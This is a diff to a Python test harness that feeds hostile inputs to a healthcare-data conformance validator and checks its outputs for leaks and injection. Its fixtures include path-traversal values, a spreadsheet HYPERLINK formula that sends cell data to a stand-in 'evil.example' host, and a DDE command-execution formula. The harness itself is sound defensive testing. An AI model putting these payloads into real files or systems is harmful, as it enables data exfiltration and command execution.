@@ -27,7 +27,6 @@ Target: 0 in every column but ``inputs``. Exit status 0 when that holds, else 1.
 from __future__ import annotations
 
 import argparse
-import gzip
 import io
 import os
 import re
@@ -138,8 +137,8 @@ class Command:
     stdin: bytes | None = None
     send_signal: tuple[int, float] | None = None
     """(signal, seconds after start) to deliver, for the interruption cases."""
-    as_nobody: bool = False
-    """Run as an unprivileged user (when root), so that permissions bite."""
+    unprivileged: bool = False
+    """Run without the power to override file permissions (when root), so that they bite."""
     timeout: float = 60.0
     check_card: bool = True
     """Read the scorecard this command writes (``-o card.json``) for the drop/wrong checks."""
@@ -166,7 +165,9 @@ class Case:
 CASES: list[Case] = []
 
 
-def case(family: str, quick: bool = False) -> Callable[[Callable[[Path], Run]], Callable[[Path], Run]]:
+def case(
+    family: str, quick: bool = False
+) -> Callable[[Callable[[Path], Run]], Callable[[Path], Run]]:
     def register(build: Callable[[Path], Run]) -> Callable[[Path], Run]:
         CASES.append(Case(build.__name__.replace("_", "-"), family, build, quick))
         return build
@@ -190,7 +191,9 @@ def size_of(*paths: Path) -> int:
     return total
 
 
-def feed(folder: Path, resources: Sequence[dict[str, Any]], conforms_to: Any = "mdss@1.0.0") -> Path:
+def feed(
+    folder: Path, resources: Sequence[dict[str, Any]], conforms_to: Any = "mdss@1.0.0"
+) -> Path:
     folder.mkdir(parents=True, exist_ok=True)
     (folder / "manifest.json").write_bytes(manifest(conforms_to))
     (folder / "Patient.ndjson").write_bytes(ndjson(resources))
@@ -216,7 +219,9 @@ def has_code(*codes: str) -> Callable[[dict[str, Any]], str | None]:
     return check
 
 
-def all_of(*checks: Callable[[dict[str, Any]], str | None]) -> Callable[[dict[str, Any]], str | None]:
+def all_of(
+    *checks: Callable[[dict[str, Any]], str | None],
+) -> Callable[[dict[str, Any]], str | None]:
     def check(card: dict[str, Any]) -> str | None:
         for one in checks:
             reason = one(card)
@@ -250,7 +255,9 @@ def _planted_standard(folder: Path) -> Path:
 def conforms_to_path(tmp: Path) -> Run:
     std = _planted_standard(tmp)
     folder = feed(tmp / "feed", [patient(gender="x")], str(std))
-    return Run([validate([folder])], 1, all_of(standard_requirements, has_code("conforms-to-invalid")))
+    return Run(
+        [validate([folder])], 1, all_of(standard_requirements, has_code("conforms-to-invalid"))
+    )
 
 
 @case("standard")
@@ -272,14 +279,25 @@ def conforms_to_reference_shadowed_by_folder(tmp: Path) -> Run:
 @case("standard", quick=True)
 def conforms_to_10000_chars(tmp: Path) -> Run:
     folder = feed(tmp / "feed", [patient()], "mdss@" + "1" * 10_000)
-    return Run([validate([folder])], 1, all_of(standard_requirements, has_code("conforms-to-invalid")))
+    return Run(
+        [validate([folder])], 1, all_of(standard_requirements, has_code("conforms-to-invalid"))
+    )
 
 
 @case("standard")
 def conforms_to_malformed(tmp: Path) -> Run:
     commands = []
     for index, bad in enumerate(
-        ["../../../etc", "/etc/passwd", "mdss@1.0.0/../x", "mdss@", "MDSS@1", "mdss\x00", "ｍｄｓｓ", "mdss@1.0.0\n"]
+        [
+            "../../../etc",
+            "/etc/passwd",
+            "mdss@1.0.0/../x",
+            "mdss@",
+            "MDSS@1",
+            "mdss\x00",
+            "ｍｄｓｓ",
+            "mdss@1.0.0\n",
+        ]
     ):
         feed(tmp / f"feed{index}", [patient()], bad)
         cmd = validate([tmp / f"feed{index}"])
@@ -305,7 +323,7 @@ def xml_bigint(tmp: Path) -> Run:
     (tmp / "p.xml").write_text(
         '<Patient xmlns="http://hl7.org/fhir"><id value="p1"/>'
         f'<multipleBirthInteger value="{BIG}"/></Patient>\n'
-        '',
+        "",
         encoding="utf-8",
     )
     (tmp / "o.xml").write_text(
@@ -385,7 +403,9 @@ def damaged_history(tmp: Path) -> Run:
             conn.close()
         commands.append(validate([folder], "--record", "--db", str(db), check_card=False))
         commands.append(Command(["history", "list", "--db", str(db)], check_card=False))
-        commands.append(Command(["board", "--db", str(db), "-o", f"b{index}.html"], check_card=False))
+        commands.append(
+            Command(["board", "--db", str(db), "-o", f"b{index}.html"], check_card=False)
+        )
     return Run(commands)
 
 
@@ -407,7 +427,10 @@ def standard_impossible_values(tmp: Path) -> Run:
         (std / "standard.yaml").write_text(text, encoding="utf-8")
         commands.append(Command(["standards", "lint", str(std)]))
         commands.append(
-            Command(["validate", str(tmp / "p.ndjson"), "--standard", str(std), "--no-progress"], check_card=False)
+            Command(
+                ["validate", str(tmp / "p.ndjson"), "--standard", str(std), "--no-progress"],
+                check_card=False,
+            )
         )
     (tmp / "p.ndjson").write_bytes(ndjson([patient()]))
     return Run(commands)
@@ -447,7 +470,9 @@ def bundle_large_base64(tmp: Path) -> Run:
 
     blob = base64.b64encode(os.urandom(30 * MB)).decode()
     entries = [{"resource": patient(f"p{i}", gender="bogus")} for i in range(3)]
-    entries.insert(1, {"resource": {"resourceType": "Binary", "id": "b", "contentType": "a/b", "data": blob}})
+    entries.insert(
+        1, {"resource": {"resourceType": "Binary", "id": "b", "contentType": "a/b", "data": blob}}
+    )
     bundle = {"resourceType": "Bundle", "type": "collection", "entry": entries}
     path = tmp / "bundle.json"
     path.write_bytes(orjson.dumps(bundle, option=orjson.OPT_INDENT_2))
@@ -551,7 +576,9 @@ def huge_ids(tmp: Path) -> Run:
     """4 MB ids (and references) copied into findings must not make a huge scorecard."""
     rid = "x" * (4 * MB)
     resources = [
-        patient(rid + str(i), gender="bogus", managingOrganization={"reference": "Organization/" + rid})
+        patient(
+            rid + str(i), gender="bogus", managingOrganization={"reference": "Organization/" + rid}
+        )
         for i in range(8)
     ]
     path = tmp / "ids.ndjson"
@@ -634,12 +661,7 @@ def unreadable_subfolder(tmp: Path) -> Run:
     sub.mkdir()
     (sub / "more.ndjson").write_bytes(ndjson([patient("p2")]))
     sub.chmod(0)
-    tmp.chmod(0o755)
-    for part in folder.rglob("*"):
-        if part != sub and part.parent != sub:
-            part.chmod(0o755 if part.is_dir() else 0o644)
-    tmp.chmod(0o777)  # the unprivileged run writes card.json here
-    cmd = validate([folder], as_nobody=True)
+    cmd = validate([folder], unprivileged=True)
     return Run([cmd], 1, has_code("unreadable-folder"))
 
 
@@ -658,7 +680,17 @@ def xml_child_named_resource_type(tmp: Path) -> Run:
 
 # ---- leaks and injection ---------------------------------------------------------------
 
-FORMATS = ("terminal", "markdown", "html", "junit", "sarif", "github", "csv", "codequality", "operationoutcome")
+FORMATS = (
+    "terminal",
+    "markdown",
+    "html",
+    "junit",
+    "sarif",
+    "github",
+    "csv",
+    "codequality",
+    "operationoutcome",
+)
 
 
 def _leaky_feed(folder: Path) -> None:
@@ -669,7 +701,7 @@ def _leaky_feed(folder: Path) -> None:
         f"pat-{CANARY[:3]} {CANARY[3:6]} {CANARY[6:]}",
         f"x{CANARY}y",
         f"{CANARY[:3]}-{CANARY[3:6]}-{CANARY[6:]}",
-        "=HYPERLINK(\"http://evil.example/\"&A1)",
+        '=HYPERLINK("http://evil.example/"&A1)',
         "+cmd|' /C calc'!A0",
         "@SUM(1+1)",
         "-2+3",
@@ -703,13 +735,17 @@ def _leaky_feed(folder: Path) -> None:
                     "environment": "test",
                     "conformsTo": "mdss@1.0.0",
                 },
-                "files": [{"path": f"{CANARY}.ndjson", "type": "Patient", "count": 1, "sha256": "0" * 64}],
+                "files": [
+                    {"path": f"{CANARY}.ndjson", "type": "Patient", "count": 1, "sha256": "0" * 64}
+                ],
             }
         )
     )
     (folder / "Patient.ndjson").write_bytes(ndjson(resources))
     (folder / f"{dotted(CANARY)}.ndjson").write_bytes(ndjson([patient("p9")]))
-    (folder / f"{MARKER[:0]}{CANARY[:3]}-{CANARY[3:6]}-{CANARY[6:]}.ndjson").write_bytes(ndjson([patient("p8")]))
+    (folder / f"{MARKER[:0]}{CANARY[:3]}-{CANARY[3:6]}-{CANARY[6:]}.ndjson").write_bytes(
+        ndjson([patient("p8")])
+    )
     (folder / "sitrep-discharge.csv").write_text(
         f"site_code,date,{MARKER}\n=1+1,2026-11-02,{CANARY}\n\x1b[31mRH802,2026-11-02,x\n"
     )
@@ -726,10 +762,21 @@ def leaks_every_format(tmp: Path) -> Run:
     records = 12 + 1 + 1 + 2 + 1
     commands = [validate([folder], "--record", "--db", "h.sqlite3")]
     for fmt in FORMATS:
-        commands.append(Command(["scorecard", "render", "card.json", "-f", fmt, "-o", f"out.{fmt}"], check_card=False))
-        commands.append(Command(["validate", str(folder), "-f", fmt, "--no-progress"], check_card=False))
-    commands.append(Command(["board", "card.json", "-f", "csv", "-o", "board.csv"], check_card=False))
-    commands.append(Command(["board", "card.json", "-f", "html", "-o", "board.html"], check_card=False))
+        commands.append(
+            Command(
+                ["scorecard", "render", "card.json", "-f", fmt, "-o", f"out.{fmt}"],
+                check_card=False,
+            )
+        )
+        commands.append(
+            Command(["validate", str(folder), "-f", fmt, "--no-progress"], check_card=False)
+        )
+    commands.append(
+        Command(["board", "card.json", "-f", "csv", "-o", "board.csv"], check_card=False)
+    )
+    commands.append(
+        Command(["board", "card.json", "-f", "html", "-o", "board.html"], check_card=False)
+    )
     commands.append(Command(["history", "list", "--db", "h.sqlite3"], check_card=False))
     return Run(commands, records, _injection_free(tmp))
 
@@ -786,7 +833,9 @@ def _incomplete(tmp: Path) -> Callable[[dict[str, Any]], str | None]:
 def _signal_case(tmp: Path, signum: int, delay: float, extra: Sequence[str] = ()) -> Run:
     folder = _big_feed(tmp / "feed", 20_000)
     code = 128 + signum
-    cmd = validate([folder], "--jobs", "1", *extra, send_signal=(signum, delay), allowed=frozenset({code}))
+    cmd = validate(
+        [folder], "--jobs", "1", *extra, send_signal=(signum, delay), allowed=frozenset({code})
+    )
     return Run([cmd], None, _incomplete(tmp))
 
 
@@ -849,15 +898,19 @@ class Outcome:
         )
 
 
-def _limits_for(as_nobody: bool) -> Callable[[], None]:
-    def apply() -> None:
-        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))
-        resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_SIZE_CAP, FILE_SIZE_CAP))
-        if as_nobody and os.geteuid() == 0:
-            os.setgid(65534)
-            os.setuid(65534)
+def _limits() -> None:
+    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))
+    resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_SIZE_CAP, FILE_SIZE_CAP))
 
-    return apply
+
+def _drop_privileges() -> list[str]:
+    """A prefix that runs a command as root but without overriding file permissions."""
+    if os.geteuid() != 0:
+        return []
+    setpriv = shutil.which("setpriv")
+    if setpriv is None:
+        raise RuntimeError("running as root needs setpriv (util-linux) for this input")
+    return [setpriv, "--bounding-set", "-dac_override,-dac_read_search", "--"]
 
 
 def run_command(command: Command, cwd: Path) -> tuple[int | None, str, str, float, float, bool]:
@@ -870,14 +923,15 @@ def run_command(command: Command, cwd: Path) -> tuple[int | None, str, str, floa
     env["CONFORMANCE_HISTORY_DB"] = str(cwd / "default-history.sqlite3")
     env["TMPDIR"] = str(cwd)
     with out_path.open("wb") as out, err_path.open("wb") as err:
+        prefix = _drop_privileges() if command.unprivileged else []
         proc = subprocess.Popen(
-            [sys.executable, "-m", "conformance", *command.argv],
+            [*prefix, sys.executable, "-m", "conformance", *command.argv],
             cwd=cwd,
             stdin=subprocess.PIPE if command.stdin is not None else subprocess.DEVNULL,
             stdout=out,
             stderr=err,
             env=env,
-            preexec_fn=_limits_for(command.as_nobody),
+            preexec_fn=_limits,
             start_new_session=True,
         )
         if command.stdin is not None:
@@ -910,12 +964,23 @@ def run_command(command: Command, cwd: Path) -> tuple[int | None, str, str, floa
     stderr = err_path.read_bytes().decode("utf-8", "replace")
     out_path.unlink()
     err_path.unlink()
-    return (None if hung else code, stdout, stderr, usage.ru_maxrss / 1024, usage.ru_oublock * 512 / MB, hung)
+    return (
+        None if hung else code,
+        stdout,
+        stderr,
+        usage.ru_maxrss / 1024,
+        usage.ru_oublock * 512 / MB,
+        hung,
+    )
 
 
 def _outputs(folder: Path) -> Iterator[tuple[str, str]]:
     for path in sorted(folder.iterdir()):
-        if path.is_file() and path.suffix not in (".ndjson", ".xml", ".json-src") and path.name != "manifest.json":
+        if (
+            path.is_file()
+            and path.suffix not in (".ndjson", ".xml", ".json-src")
+            and path.name != "manifest.json"
+        ):
             if path.stat().st_size <= 64 * MB:
                 yield path.name, path.read_bytes().decode("utf-8", "replace")
     for db in folder.glob("*.sqlite3"):
@@ -928,16 +993,38 @@ def _outputs(folder: Path) -> Iterator[tuple[str, str]]:
         yield db.name, dump
 
 
-def run_case(item: Case, base: Path, verbose: bool = False) -> Outcome:
-    outcome = Outcome(item.name, item.family)
+def build_case(item: Case, base: Path) -> tuple[Path, Run | Exception, float]:
+    """Write one input's files; (its folder, its run or why the generator failed, seconds)."""
     work = base / item.name
     work.mkdir(parents=True)
     started = time.monotonic()
     try:
-        run = item.build(work)
-    except Exception as exc:  # the generator itself failed: count it, say why
+        return work, item.build(work), time.monotonic() - started
+    except Exception as exc:
+        return work, exc, time.monotonic() - started
+
+
+def _release_memory() -> None:
+    """Give the generators' memory back, so that no child starts with it (a forked
+    child's peak RSS starts at its parent's RSS at the time of the fork)."""
+    import ctypes
+    import gc
+
+    gc.collect()
+    try:
+        ctypes.CDLL("libc.so.6").malloc_trim(0)
+    except (OSError, AttributeError):
+        pass
+
+
+def run_case(
+    item: Case, work: Path, run: Run | Exception, build_seconds: float, verbose: bool = False
+) -> Outcome:
+    outcome = Outcome(item.name, item.family)
+    started = time.monotonic() - build_seconds
+    if isinstance(run, Exception):  # the generator itself failed: count it, say why
         outcome.wrong += 1
-        outcome.notes.append(f"generator failed: {exc!r}")
+        outcome.notes.append(f"generator failed: {run!r}")
         return outcome
     planted_inputs = {p.name for p in work.iterdir()}
     patterns = leak_patterns()
@@ -968,7 +1055,10 @@ def run_case(item: Case, base: Path, verbose: bool = False) -> Outcome:
                     outcome.leaks += 1
                     outcome.notes.append(f"{label}: {where} carries {pattern.pattern[:30]!r}")
         if verbose:
-            print(f"  {item.name}: {label} -> {code} rss {rss:.0f} MB\n{stderr[-400:]}", file=sys.stderr)
+            print(
+                f"  {item.name}: {label} -> {code} rss {rss:.0f} MB\n{stderr[-400:]}",
+                file=sys.stderr,
+            )
     for name, text in _outputs(work):
         if name in planted_inputs:
             continue
@@ -985,7 +1075,7 @@ def run_case(item: Case, base: Path, verbose: bool = False) -> Outcome:
             except orjson.JSONDecodeError:
                 card = None
         if card is None:
-            if any("validate" == c.argv[0] and c.allowed != frozenset({2}) for c in run.commands):
+            if any(c.argv[0] == "validate" and c.allowed != frozenset({2}) for c in run.commands):
                 outcome.wrong += 1
                 outcome.notes.append("no scorecard written")
         else:
@@ -1028,8 +1118,12 @@ def run_corpus(
     base = Path(tempfile.mkdtemp(prefix="hostile-corpus-"))
     base.chmod(0o755)
     try:
+        built = [build_case(c, base) for c in chosen]  # first, all in this process
+        _release_memory()
         with ThreadPoolExecutor(max_workers=max(1, jobs)) as pool:
-            return list(pool.map(lambda c: run_case(c, base, verbose), chosen))
+            return list(
+                pool.map(lambda pair: run_case(pair[0], *pair[1], verbose), zip(chosen, built))
+            )
     finally:
         _fix_permissions(base)
         shutil.rmtree(base, ignore_errors=True)
